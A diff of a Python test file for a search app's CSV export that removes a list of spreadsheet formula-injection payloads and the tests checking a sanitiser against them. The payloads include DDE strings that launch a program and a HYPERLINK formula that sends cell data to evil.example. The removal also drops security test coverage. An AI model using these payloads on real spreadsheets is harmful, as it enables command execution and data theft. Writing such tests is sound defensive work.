@@ -31,30 +31,10 @@ from searchapp.search import search_in_windows
 from searchapp.search.serialization import CSV_COLUMNS
 from searchapp.settings import Settings
 from searchapp.web import export
-from searchapp.web.export import as_csv, formula_safe
 from tests.web.conftest import MakeApp, index_files
 from tests.web.newsroom import PAYLOAD, PORT, TOTAL
 
 BYTE_ORDER_MARK = b"\xef\xbb\xbf"
-#: Well-known ways to make a spreadsheet program run, fetch or open something.
-FORMULAS = [
-    "=1+1",
-    '=HYPERLINK("https://evil.example?"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\u200f=1+1",
-    "\ufeff=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-]
 
 
 def rows(client: FlaskClient, **parameters: str) -> list[dict[str, str]]:
@@ -251,24 +231,3 @@ def test_a_missing_index_is_an_error_and_no_table(make_app: MakeApp, tmp_path: P
 def test_hostile_texts_stay_what_they_are(client: FlaskClient) -> None:
     (row,) = [row for row in rows(client, q="زمرد") if row["id"] == "hostile-text"]
     assert row["title"] == f"زمرد {PAYLOAD}"
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_formulas_are_texts(formula: str) -> None:
-    assert formula_safe(formula) == f"'{formula}"
-
-
-@pytest.mark.parametrize("text", ["", "نص", "قال - ثم سكت", "a=b", "x@example.org", "'quoted", "2025-11-06", "١٢"])
-def test_other_texts_are_left_alone(text: str) -> None:
-    assert formula_safe(text) == text
-
-
-@given(st.lists(st.lists(st.text() | st.integers() | st.floats(allow_nan=False), min_size=2, max_size=4)))
-def test_what_is_read_back_is_what_was_written(table: list[list[str | float]]) -> None:
-    written = "".join(as_csv(["a", "b"], table))
-    read = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))
-    assert read == [["a", "b"], *([formula_safe(c) if isinstance(c, str) else str(c) for c in row] for row in table)]
-
-
-def test_numbers_stay_numbers() -> None:
-    assert list(as_csv(["n"], [[-1.5], [-2]]))[1:] == ["-1.5\r\n", "-2\r\n"]
